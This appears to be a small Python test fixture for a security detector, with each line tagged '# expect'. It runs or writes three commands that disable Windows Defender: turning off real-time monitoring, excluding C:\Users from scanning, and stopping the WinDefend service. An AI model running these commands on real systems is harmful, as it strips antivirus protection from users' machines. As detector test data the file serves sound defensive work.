import os
import subprocess

os.system("powershell Set-MpPreference -DisableRealtimeMonitoring $true")  # expect
subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\Users"])  # expect
with open("off.bat", "w") as f:
    f.write("sc stop WinDefend\n")  # expect
